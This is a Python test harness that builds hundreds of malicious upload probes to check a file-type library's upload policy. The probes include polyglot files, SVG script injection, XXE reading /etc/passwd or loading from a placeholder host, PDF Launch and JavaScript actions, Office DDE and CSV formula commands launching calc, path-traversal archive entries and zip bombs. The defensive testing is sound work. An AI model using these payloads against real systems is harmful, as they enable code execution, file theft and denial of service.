"""Judges hundreds of attacks with the policy for uploads, and lists those that it accepts.

    probes.py LIBRARY

Each attack is judged where the type that it claims to have is allowed. For accepted ones the table names the reason in the article
"Checking uploads" why they are; an attack without one is a fault, and the exit status 1.
"""

import itertools
import os
import pathlib
import struct
import sys
import zlib

from carriers import *  # noqa: F403

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
PADDINGS = {"": b"", "a line break": b"\n", "zeros": bytes(16), "ones": b"\xff" * 3, "blanks": b"  \r\n", "a sector": bytes(512)}

# Sentences of the article, by what an attack is called.
EXPLAINED = {
    "unknown behind": "data of no known format after the end of a file, which is only reported",
    "compressed text": "PHP in a chunk of a PNG that is compressed, or in UTF-16",
    "nested": "what the entries of an archive contain, and archives in archives",
    "formula": "formulas in CSV, which run in a spreadsheet if the reader lets them",
    "quoted": "scripts that a text quotes after its first words, and commands that depend on the name",
    "links": "images and style sheets that an SVG loads from elsewhere",
    "xslt": "transformations (XSLT), which are XML, where XML is allowed",
    "forms": "files that are attached to a PDF, its forms in XFA, and addresses of servers that it links to or sends forms to",
    "before the last": "suffixes of programs before the last one, which only servers use",
}


def tails():
    carriers = {**IMAGES, **MEDIA, "application/pdf": ("a.pdf", pdf)}
    for (kind, (name, carrier)), (payload, make) in itertools.product(carriers.items(), PAYLOADS.items()):
        for padding, between in PADDINGS.items():
            label = None
            if payload in ("iso", "swf", "ace", "vhdx", "qcow", "pyc", "lnk", "lua", "mht", "arj", "cpio"):
                label = "unknown behind"
            yield f"{payload} behind {kind}" + (f" and {padding}" if padding else ""), kind, name, carrier() + between + make(), label


def ends():
    """Carriers that lack their end, state a wrong length, or have something harmless behind them, and a gzip file behind that."""
    gz = PAYLOADS["gzip"]()
    size = struct.pack
    carriers = {"PNG without its end": ("image/png", png()[:-12]), "GIF without its end": ("image/gif", gif()[:-1])}
    for length in (0, 1 << 31, 0xFFFFFFFF, 10_000):
        carriers[f"WAV that states {length}"] = ("audio/vnd.wave", wav()[:4] + size("<I", length) + wav()[8:])
        carriers[f"WebP that states {length}"] = ("image/webp", webp()[:4] + size("<I", length) + webp()[8:])
        carriers[f"BMP that states {length}"] = ("image/bmp", bmp()[:2] + size("<I", length) + bmp()[6:])
    carriers["WebM of unknown length"] = ("video/webm", _recording())
    for name, (kind, data) in carriers.items():
        yield f"gzip behind a {name}", kind, None, data + gz, None
    shown = {kind: make for kind, (_, make) in {**IMAGES, **MEDIA}.items()}
    for first, second in itertools.product(shown, shown):
        # The first bytes of an icon look like padding.
        label = "unknown behind" if second == "image/vnd.microsoft.icon" else None
        yield f"gzip behind {second} behind {first}", first, None, shown[first]() + shown[second]() + gz, label
    yield "gzip behind an image behind a PDF", "application/pdf", None, pdf() + png() + gz, None
    yield "gzip behind many images", "image/png", None, png() * 30 + gz, None


def _recording():
    start = webm()
    start = start[:start.index(b"\x18\x53\x80\x67") + 4] + b"\1" + b"\xff" * 7
    return start + b"\x1f\x43\xb6\x75\1" + b"\xff" * 7 + b"\xe7\x81\0\xa3\x90" + bytes(range(16))


def inside():
    codes = ["php", "php tag", "asp", "jsp", "script", "html"]
    for code in codes:
        text = PAYLOADS[code]()
        yield f"{code} in tEXt", "image/png", "a.png", png_text(text), None
        yield f"{code} in a comment of JPEG", "image/jpeg", "a.jpg", jpeg(text), None
        yield f"{code} in a comment of GIF", "image/gif", "a.gif", gif(text), None
        yield f"{code} in zTXt", "image/png", "a.png", png_text(text, b"zTXt"), "compressed text"
        yield f"{code} in UTF-16", "image/jpeg", "a.jpg", jpeg(text.decode().encode("utf-16-le")), "compressed text"
        yield f"{code} in a WAV", "audio/vnd.wave", "a.wav", riff(b"WAVE", (b"LIST", b"INFOICMT" + struct.pack("<I", len(text)) + text), (b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)), (b"data", bytes(99))), None
        yield f"{code} in an MP4", "video/mp4", "a.mp4", mp4() + box(b"free", text), None
        yield f"{code} in an SVG", "image/svg+xml", "a.svg", svg(b"<text>" + text + b"</text>"), None
        yield f"{code} at the start of a text", "text/plain", "a.txt", text, None
        yield f"{code} after blanks", "text/plain", "a.txt", b"\xef\xbb\xbf \n\t" + text, None
        yield f"{code} later in a text", "text/plain", "a.txt", b"Some words.\n" + text, "quoted"
        yield f"{code} in a palette", "image/bmp", "a.bmp", bmp()[:54] + (text + bytes(64))[:64], None
        yield f"{code} in a comment of an archive", "application/zip", "a.zip", archive(("a", "b"), comment=text), None
        yield f"{code} before an archive", "application/zip", "a.zip", text + archive(("a", "b")), None
        yield f"{code} in an entry", "application/zip", "a.zip", archive(("a.php", text)), "nested"
        yield f"{code} in a PDF", "application/pdf", "a.pdf", pdf([stream(text)]), None if code in ("php", "php tag", "asp", "jsp", "script", "html") else "quoted"


def polyglots():
    """One file that is two: what Mitra calls stacks, parasites, cavities and zippers."""
    document, packed = pdf(), archive(("a.txt", b"words" * 9))
    yield "PDF in a comment of JPEG", "image/jpeg", "a.jpg", jpeg(document[:600] + b"\n"), None
    yield "PDF in a chunk of PNG", "image/png", "a.png", png_text(document), None
    yield "PDF in a comment of GIF", "image/gif", "a.gif", gif(document[:250]), None
    yield "ZIP in a chunk of PNG", "image/png", "a.png", png_text(packed), None
    yield "ZIP in a stream of PDF", "application/pdf", "a.pdf", pdf([stream(packed)]), "forms"
    yield "PNG as PDF", "application/pdf", "a.pdf", png() + document, None
    yield "PDF with an image before it", "application/pdf", "a.pdf", jpeg() + document, None
    yield "ZIP with an image before it", "application/zip", "a.zip", png() + packed, None
    yield "ZIP with a PDF before it", "application/zip", "a.zip", document + packed, None
    yield "GIF that is JavaScript", "image/gif", "a.gif", b"GIF89a=1/*" + gif()[10:] + b"*/;alert(1)", None
    yield "GIF that is JavaScript behind a comment", "image/gif", "a.gif", b"GIF89a/*\0\1\0\0\0\0" + gif()[13:] + b"*/=1;alert(1)//", None
    yield "BMP that is JavaScript", "image/bmp", "a.bmp", b"BM/*" + bmp()[4:] + b"*/=1;alert(1)", None
    yield "WAV that is JavaScript", "audio/vnd.wave", "a.wav", b"RIFF/*" + wav()[6:] + b"*/=1;alert(1)", None
    yield "JPEG that is JavaScript", "image/jpeg", "a.jpg", b"\xff\xd8\xff\xe0/*" + jpeg()[6:] + b"*/=1;alert(1)", None
    yield "PNG and tar", "image/png", "a.png", _tarred(png()), None
    yield "JPEG and tar", "image/jpeg", "a.jpg", _tarred(jpeg()), None
    yield "image and ISO", "image/png", "a.png", (png() + bytes(32768))[:32768] + b"\1CD001\1\0" + bytes(2100), None
    yield "PDF and ISO", "application/pdf", "a.pdf", pdf([stream(bytes(40000))])[:32768] + b"\1CD001\1\0" + bytes(2100) + document[-200:], None
    yield "PE as BMP", "image/bmp", "a.bmp", b"BM" + pe()[2:], None
    yield "HTML as GIF", "image/gif", "a.gif", b"GIF89a<html><script>alert(1)</script>", None
    yield "PostScript as PDF", "application/pdf", "a.pdf", b"%!PS-Adobe-3.0 PDF-1.4\n(/etc/passwd)(r)file\n" + document, None
    yield "DOCX that is a JAR", DOCX, "a.docx", docx(extra=[("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", java_class())]), None
    yield "DOCX that is an APK", DOCX, "a.docx", docx(extra=[("AndroidManifest.xml", b"\3\0\x08\0"), ("classes.dex", dex())]), None
    yield "ODT that is a JAR", ODT, "a.odt", odt(extra=[("META-INF/MANIFEST.MF", b"Main-Class: A\n"), ("A.class", java_class())]), None
    yield "ZIP that is a phar", "application/zip", "a.zip", archive((".phar/stub.php", b"<?php __HALT_COMPILER();"), ("a", b"b")), None
    yield "tar that is a phar", "application/x-tar", "a.tar", tar((".phar/stub.php", b"<?php __HALT_COMPILER();", {}), ("a", b"b", {})), "nested"


def _tarred(image):
    header = bytearray(tar((image[:90].decode("latin-1").replace("\0", "\1"), b"x", {}))[:512])
    header[:100] = (image + bytes(100))[:100]
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + image[512:] + bytes(1024)


def documents():
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    actions = {
        "JavaScript": script, "JavaScript by numbers": b"<</S/J#61vaScript/JS(app.alert\\(1\\))>>", "Launch": b"<</S/Launch/F(calc.exe)>>",
        "ImportData": b"<</S/ImportData/F(a.fdf)>>", "GoToE": b"<</S/GoToE/T<<>>>>", "URI script": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
        "URI in hexadecimal": b"<</S/URI/URI<6A6176617363726970743A31>>>", "RichMedia": b"<</Type/Annot/Subtype/RichMedia>>",
        "Rendition": b"<</S/Rendition/JS(app.alert\\(1\\))>>", "comment between": b"<</S%x\n/JavaScript/JS(1)>>", "XFA": b"<</XFA[(template) 9 0 R]>>",
        "attachment": b"<</Type/EmbeddedFile/Length 2>>", "SubmitForm": b"<</S/SubmitForm/F(http://e.example)>>",
    }
    for name, action in actions.items():
        label = "forms" if name in ("XFA", "attachment", "SubmitForm") else None
        yield f"{name} in a PDF", "application/pdf", "a.pdf", pdf([action]), label
        for filters, encode in FILTERS.items():
            data = encode(b"9 0 " + action)
            yield f"{name} in an object stream of {filters}", "application/pdf", "a.pdf", pdf([stream(data, b"/Type/ObjStm/N 1/First 4/Filter[%s]" % filters.encode())]), label
    yield "encrypted PDF", "application/pdf", "a.pdf", pdf(trailer=b"/Encrypt<</Filter/Standard/V 1>>"), None
    yield "object stream with an unknown filter", "application/pdf", "a.pdf", pdf([stream(b"x", b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode")]), None


FILTERS = {
    "/FlateDecode": zlib.compress, "/FlateDecode/FlateDecode": lambda data: zlib.compress(zlib.compress(data)),
    "/ASCIIHexDecode": lambda data: data.hex().encode() + b">", "/ASCIIHexDecode/FlateDecode": lambda data: zlib.compress(data).hex().encode() + b">",
}


def drawings():
    inner = {
        "script": b"<script>alert(1)</script>", "prefixed script": b'<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
        "handler": b'<rect onload="alert(1)"/>', "link": b'<a xlink:href="javascript:alert(1)"><text>x</text></a>',
        "link by references": b'<a xlink:href="jav&#x61;script&#58;alert(1)"><text>x</text></a>', "tab in a link": b'<a xlink:href="java&#9;script:1"><text>x</text></a>',
        "page in data": b'<use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>', "foreign frame": b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:1"/></foreignObject>',
        "capital script": b"<SCRIPT>alert(1)</SCRIPT>", "capital frame": b"<IFRAME src='x'/>",
        "animated link": b'<a><set attributeName="href" to="javascript:alert(1)"/></a>', "CDATA": b"<script><![CDATA[alert(1)]]></script>",
    }
    for name, data in inner.items():
        yield f"{name} in a drawing", "image/svg+xml", "a.svg", svg(data), None
        yield f"{name} in a drawing in UTF-16", "image/svg+xml", "a.svg", svg(data).decode().encode("utf-16"), None
    before = {
        "external entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "external DTD": b'<!DOCTYPE svg SYSTEM "http://e.example/x.dtd">',
        "parameter entity": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://e.example/"> %x;]>', "style sheet": b'<?xml-stylesheet href="http://e.example/x.xsl" type="text/xsl"?>',
        "entities that multiply": b"<!DOCTYPE svg [<!ENTITY a '" + b"x" * 99 + b"'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, (b"&%c;" % (97 + i)) * 20) for i in range(9)) + b"]>",
        "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>',
    }
    for name, data in before.items():
        yield f"{name} in a drawing", "image/svg+xml", "a.svg", svg(b"<text>&j;</text>" if "multiply" in name else b"", before=data), None
        yield f"{name} in XML", "application/xml", "a.xml", data + (b"<svg>&j;</svg>" if "multiply" in name else b"<svg/>"), None
    yield "image from elsewhere", "image/svg+xml", "a.svg", svg(b'<image xlink:href="http://e.example/a.png"/>'), "links"
    yield "XSLT", "application/xml", "a.xml", b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>', "xslt"


def offices():
    field = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>"
    split = "<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE c</w:instrText></w:r></w:p>"
    simple = '<w:p><w:fldSimple w:instr=" DDE x"/></w:p>'
    for name, body in {"field": field, "split field": split, "simple field": simple}.items():
        yield f"DDE in a {name}", DOCX, "a.docx", docx(body), None
        yield f"DDE in a {name} of a part with another name", DOCX, "a.docx", docx(body, part="evil/main.xml"), None
        yield f"DDE in a {name} of a part at the top", DOCX, "a.docx", docx(body, part="main.dat"), None
    for kind in ("attachedTemplate", "frame", "subDocument", "oleObject", "aFChunk", "control"):
        for target in ("http://e.example/x.dotm", "\\\\e.example\\x", "file://e.example/x", "&#104;ttp://e.example/"):
            yield f"{kind} at {target}", DOCX, "a.docx", docx(links=[(kind, target, True)]), None
    programs = ["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin", "word/embeddings/a.docm"]
    for program in programs:
        yield f"{program}", DOCX, "a.docx", docx(extra=[(program, b"x" * 50)]), None
    kinds = ["application/vnd.ms-office.vbaProject", "application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.activeX+xml",
             "application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-office.vb&#97;Project"]
    for kind in kinds:
        yield f"content type {kind}", DOCX, "a.docx", docx(types=content_types(("/x.bin", kind)), extra=[("x.bin", b"x")]), None
    for encoding in ("UTF-7", "IBM037", "UTF-32"):
        yield f"types in {encoding}", DOCX, "a.docx", docx(types=content_types().replace("UTF-8", encoding)), None
    yield "types in UTF-16", DOCX, "a.docx", docx(types=content_types(("/x.bin", kinds[0])).replace("UTF-8", "UTF-16").encode("utf-16")), None
    yield "macro sheet", XLSX, "a.xlsx", xlsx(extra=[("xl/macrosheets/sheet1.xml", "<x/>")]), None
    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    kind = f"{SHEET}.externalLink+xml"
    yield "DDE link", XLSX, "a.xlsx", xlsx(extra=[("xl/externalLinks/externalLink1.xml", link)]), None
    yield "DDE link with another name", XLSX, "a.xlsx", xlsx(extra=[("xl/x.xml", link)], types=[("/xl/x.xml", kind)]), None
    yield "DDE in ODT", ODT, "a.odt", odt('<text:dde-connection-decl office:name="a"/><office:dde-source office:dde-application="x"/>'), None
    yield "macro in ODT", ODT, "a.odt", odt(extra=[("Basic/Standard/Module1.xml", "<x/>")]), None
    yield "script in ODT", ODT, "a.odt", odt(extra=[("Scripts/python/a.py", "import os")]), None
    yield "event in ODT", ODT, "a.odt", odt('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), None
    for inside in (b"{\\object\\objocx{\\*\\objdata 01}}", b"{\\object\\objemb{\\*\\objdata 01}}", b"{\\field{\\*\\fldinst DDEAUTO x}}", b"{\\*\\template http://e.example/x}"):
        yield f"{inside[:20]} in RTF", "application/rtf", "a.rtf", rtf(inside), None


def archives():
    yield "no directory", "application/zip", "a.zip", archive(("a", "b"))[:-22], None
    yield "another number of entries", "application/zip", "a.zip", archive(("a", "b"))[:-12] + b"\5" + archive(("a", "b"))[-11:], None
    paths = [".. /../evil", "C:x", "../../evil", "/etc/passwd", "a/../../b", "..\\x", "C:\\x", "C:x/../..", "\\\\e\\x", "a/b/../../../c"]
    for path in paths:
        yield f"entry {path}", "application/zip", "a.zip", archive((path, "x")), None
        yield f"entry {path}", "application/x-tar", "a.tar", tar((path, b"x", {})), None
        yield f"extended entry {path}", "application/x-tar", "a.tar", tar(("a", b"x", {"pax_headers": {"path": path}}), kind=tarfile.PAX_FORMAT), None
        good = archive(("a" * len(path), "x" * 50))
        yield f"local entry {path}", "application/zip", "a.zip", good.replace(b"a" * len(path), path.encode(), 1), None
        yield f"link to {path}", "application/x-tar", "a.tar", tar(("a", b"", {"type": tarfile.SYMTYPE, "linkname": path})), None
        yield f"hard link to {path}", "application/x-tar", "a.tar", tar(("a", b"", {"type": tarfile.LNKTYPE, "linkname": path})), None
        yield f"global entry {path}", "application/x-tar", "a.tar", _with_global(path), None
        yield f"entry {path} behind the end", "application/x-tar", "a.tar", tar(("a", b"x", {})) + tar((path, b"x", {})), None
    inner = tar(("../../evil", b"", {}))[:512]
    yield "two sizes", "application/x-tar", "a.tar", tar(("a", inner, {"pax_headers": {"size": "0"}}), kind=tarfile.PAX_FORMAT), None
    yield "device", "application/x-tar", "a.tar", tar(("a", b"", {"type": tarfile.BLKTYPE})), None
    yield "bomb", "application/zip", "a.zip", archive(("a", bytes(40 << 20))), None
    yield "gzip bomb", "application/gzip", "a.gz", gzip.compress(bytes(40 << 20)), None
    yield "archive in an archive", "application/zip", "a.zip", archive(("a.zip", archive(("../x", "y")))), "nested"


def _with_global(path):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"path": path}) as out:
        info = tarfile.TarInfo("a")
        info.size = 1
        out.addfile(info, io.BytesIO(b"x"))
    return buffer.getvalue()


SERVED = "php php5 phtml phar asp aspx ashx jsp jspx cgi shtml cfm".split()


def names():
    suffixes = "php php5 phtml phar asp aspx ashx jsp jspx cgi pl py rb sh exe dll com bat cmd ps1 vbs js jse wsf hta lnk scr msi jar shtml svg html htm xht cfm".split()
    for suffix in suffixes:
        for name in (f"a.{suffix}", f"a.{suffix}.png", f"a.png.{suffix}", f"a.{suffix};.png", f"a.{suffix}%00.png", f"a.{suffix}\0.png", f"a.{suffix}.", f"a.{suffix} "):
            # Servers run a file by any of its suffixes, desktops by the last.
            label = None if suffix in SERVED else "before the last"
            yield f"name {name!r}", "image/png", name, png(), label
    for name in ("../a.png", "..\\a.png", "/etc/passwd/a.png", "C:\\a.png", ".htaccess", "web.config", ".user.ini", "CON.png", "a\u202egnp.exe", "a.png\u2028", "a\n.png",
                 "x" * 300 + ".png", "\uff0e\uff0e\uff0fa.png", "a.png:stream", "C:a.png", "com\u00b9.png", "a.png::$DATA", "desktop.ini", "Thumbs.db.php"):
        yield f"name {name[:30]!r}", "image/png", name, png(), None


def texts():
    lines = {
        "SYLK": b"ID;PWXL;N;E\nC;Y1;X1;E=EXEC(\"calc\")\nE\n", "IQY": b"WEB\n1\nhttp://e.example/x\n", "RTF": rtf(), "PostScript": PAYLOADS["postscript"](),
        "shell": b"#!/bin/sh\nls\n", "page": b"<!doctype html><p>x", "comment and page": b"<!-- x --><html>", "UTF-7 page": b"+ADw-script+AD4-alert(1)",
        "handler": b"<img src=x onerror=alert(1)>", "shebang after a line": b"\n#!/bin/sh\nls\n", "XML": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
        "mail": PAYLOADS["mht"](), "print job": b"\x1b%-12345X@PJL ENTER LANGUAGE=POSTSCRIPT\n%!PS\nshowpage\n", "PDF": b"words\n" + pdf(),
    }
    for name, data in lines.items():
        yield f"{name} as text", "text/plain", "a.txt", data, "quoted" if name == "IQY" else None
        yield f"{name} as CSV", "text/csv", "a.csv", data, "quoted" if name == "IQY" else None
    yield "formula", "text/csv", "a.csv", b"a,b\n=cmd|' /c calc'!A1,2\n3,4\n", "formula"
    for data in (b"{}<script>", b'{"a":1}\n<html>', b"[1,2", b'{"a":}', b"\xff\xfe{\0", b'{"a":1}x'):
        yield f"{data!r} as JSON", "application/json", "a.json", data, None


def check_article():
    """Ends the program if the article lacks a sentence that explains something."""
    path = pathlib.Path(__file__).parents[3] / "Sources/MIMEDetection/MIMEDetection.docc/CheckingUploads.md"
    article = " ".join(path.read_text().split())
    for sentence in EXPLAINED.values():
        if sentence not in article:
            sys.exit(f"the article doesn't say '{sentence}'")


def main(library):
    os.environ["MIMETYPE_LIBRARY"] = library
    from judging import Policy
    check_article()
    policies, total, faults, explained = {}, 0, [], {}
    for group in (tails, ends, inside, polyglots, documents, drawings, offices, archives, names, texts):
        for attack, kind, name, data, label in group():
            total += 1
            policy = policies.setdefault(kind, Policy([kind]))
            if not policy.bytes(data, name)["ok"]:
                continue
            if label:
                explained.setdefault(label, []).append(attack)
            else:
                faults.append((group.__name__, attack))
    accepted = sum(map(len, explained.values())) + len(faults)
    print(f"{total} attacks, {accepted} accepted, {len(faults)} of them without a reason in the article")
    for label, attacks in explained.items():
        print(f"| {len(attacks)} | {EXPLAINED[label]} | {attacks[0]} |")
    for group, attack in faults:
        print(f"FAULT {group}: {attack}")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]) if len(sys.argv) == 2 else __doc__)
